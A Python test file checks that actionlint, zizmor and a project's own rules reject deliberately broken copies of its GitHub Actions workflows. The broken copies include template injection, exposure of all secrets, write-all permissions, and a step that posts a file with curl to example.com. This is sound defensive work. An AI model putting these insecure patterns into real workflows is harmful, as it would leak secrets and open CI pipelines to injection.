"""A broken copy of each workflow is rejected: by actionlint, by zizmor, or by our own rules."""

import json
import re
import subprocess
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.makefile.files import MAKEFILE
from tests.workflows.files import TEXTS
from tests.workflows.rules import faults
from tools.command import ROOT

Break = Callable[[str], str]
# zizmor does not ask this of a workflow that others call: it is for the caller to say.
CALLED = {"build-image.yaml"}
EXEMPT = {"concurrency-limits": CALLED, "secrets-outside-env": CALLED}


def replace(pattern: str, by: str) -> Break:
    """Return what breaks the first place, of those that have it."""
    return lambda text: re.sub(pattern, by, text, count=1, flags=re.MULTILINE)


def job(*lines: str) -> Break:
    """Return what adds a job with a step of those lines."""
    step = "".join(f"        {line}\n" for line in lines)
    head = "\n  broken:\n    runs-on: ubuntu-24.04\n    steps:\n"
    return lambda text: f"{text}{head}      -\n{step}"


ZIZMOR: dict[str, Break] = {
    "unpinned-uses": replace(r"@[0-9a-f]{40} # v\S+", "@main"),
    "excessive-permissions": replace(r"^permissions: \{\}$", "permissions: write-all"),
    "template-injection": job("run: echo '${{ github.event.pull_request.title }}'"),
    "artipacked": job("uses: actions/checkout@3d3c42e5aac5ba805825da76410c181273ba90b1 # v7.0.1"),
    "concurrency-limits": replace(r"^concurrency:\n(?: +.*\n)+", ""),
    "overprovisioned-secrets": job("env: {ALL: '${{ toJSON(secrets) }}'}", "run: make lint"),
    "unredacted-secrets": job("env: {IT: '${{ fromJSON(secrets.A).b }}'}", "run: make lint"),
    "secrets-outside-env": job("env: {IT: '${{ secrets.TOKEN }}'}", "run: make lint"),
    "insecure-commands": job("env: {ACTIONS_ALLOW_UNSECURE_COMMANDS: 'true'}", "run: make lint"),
}
ACTIONLINT: dict[str, Break] = {
    "unexpected key": replace(r"^    timeout-minutes:", "    timeout-minute:"),
    "undefined variable": job("run: echo ${{ mtrix.it }}"),
    'job "missing"': lambda text: f"{job('run: make lint')(text)}    needs: missing\n",
    "label": replace(r"runs-on: ubuntu-24\.04", "runs-on: ubuntu-24.4"),
}
OURS: dict[str, Break] = {
    "has no time limit": replace(r"^    timeout-minutes: \d+\n", ""),
    "which of two runs goes on": replace(r"^concurrency:\n(?: +.*\n)+", ""),
    "start it with a token": replace(r"^on:$", "on:\n  pull_request_target:"),
    "the workflow has rights": replace(r"^permissions: \{\}$", "permissions: read-all"),
    "has no reason beside it": replace(r"^( {6}[a-z-]+: (?:read|write)) #.*$", r"\1"),
    "does not say which rights": job("run: make lint"),
    "leaves its token": replace(r"^ +persist-credentials: false\n", ""),
    "another machine some day": replace(r"runs-on: ubuntu-24\.04", "runs-on: ubuntu-latest"),
    "calls no make target": job("run: pytest"),
    "a paid plan in a private repository": job("run: make upload-sarif"),
    "hands a password to every registry": job("env: {TRIVY_PASSWORD: x}", "run: make scan-image"),
    "has one commit": job("run: make scan"),
    "sends something by itself": job("run: make lint && curl --data @x https://example.com"),
    "depends on what a person types in": lambda text: replace(
        r"^on:$(?:\n(?: .*)?$)+", "on:\n  workflow_dispatch:\n    inputs: {flags: {type: string}}\n"
    )(re.sub(r"^name: promote$", "name: other", text, flags=re.MULTILINE)),
}


def broken(each: Break) -> dict[str, str]:
    """Return a broken copy of each workflow."""
    copies = {name: each(text) for name, text in TEXTS.items()}
    assert [name for name, text in copies.items() if text == TEXTS[name]] == []
    return copies


def write(copies: dict[str, str], folder: Path) -> list[Path]:
    """Write workflows where a repository has them."""
    files = [folder / ".github" / "workflows" / name for name in copies]
    files[0].parent.mkdir(parents=True)
    for file in files:
        file.write_text(copies[file.name], encoding="utf-8")
    return files


@pytest.mark.parametrize("name", TEXTS)
def test_a_workflow_is_as_this_repository_asks(name: str) -> None:
    assert list(faults(TEXTS[name])) == []


@pytest.mark.parametrize("fault", OURS)
def test_our_rules_reject_a_broken_copy_of_each(fault: str) -> None:
    found = {name: " ".join(faults(text)) for name, text in broken(OURS[fault]).items()}

    assert [name for name, said in found.items() if fault not in said] == []


@pytest.mark.parametrize(
    ("workflow", "pattern"),
    [
        ("promote.yaml", r"^ +packages: read.*\n"),
        ("promote.yaml", "Log in to GHCR"),
        ("nightly.yaml", r"^ +packages: read.*\n"),
        ("release.yaml", "Log in to GHCR"),
    ],
)
def test_a_job_that_cannot_read_a_private_package_is_found(workflow: str, pattern: str) -> None:
    text = replace(pattern, "")(TEXTS[workflow])
    assert "cannot read a private package" in " ".join(faults(text))


@pytest.mark.parametrize("target", ["sbom", "sign", "verify"])
def test_a_release_without_its_evidence_is_found(target: str) -> None:
    text = re.sub(rf"\bmake {target}\b", "make image", TEXTS["build-image.yaml"])
    assert f"without `make {target}`" in " ".join(faults(text))


@pytest.mark.parametrize("audit", ZIZMOR)
def test_zizmor_rejects_a_broken_copy_of_each(audit: str, tmp_path: Path) -> None:
    files = write(broken(ZIZMOR[audit]), tmp_path)
    # The options that the Makefile calls it with.
    (options,) = re.findall(r"zizmor (.*) \.$", MAKEFILE, re.MULTILINE)
    done = subprocess.run(
        [ROOT / ".venv/bin/zizmor", *options.split(), "--format", "json", tmp_path],
        capture_output=True,
        text=True,
        check=False,
    )

    assert done.returncode >= 10, done.stderr  # with no finding it is 0, with an error 1
    found = {
        Path(location["symbolic"]["key"]["Local"]["verbatim_path"]).name
        for finding in json.loads(done.stdout)
        if finding["ident"] == audit and not finding["ignored"]
        for location in finding["locations"]
    }
    assert found == {file.name for file in files} - EXEMPT.get(audit, set())


@pytest.mark.parametrize("fault", ACTIONLINT)
def test_actionlint_rejects_a_broken_copy_of_each(fault: str, tmp_path: Path) -> None:
    files = write(broken(ACTIONLINT[fault]), tmp_path)
    for file in files:
        done = subprocess.run(
            [ROOT / ".tools/actionlint", "-oneline", file],
            cwd=tmp_path,
            capture_output=True,
            text=True,
            check=False,
        )
        assert done.returncode == 1
        assert fault in done.stdout
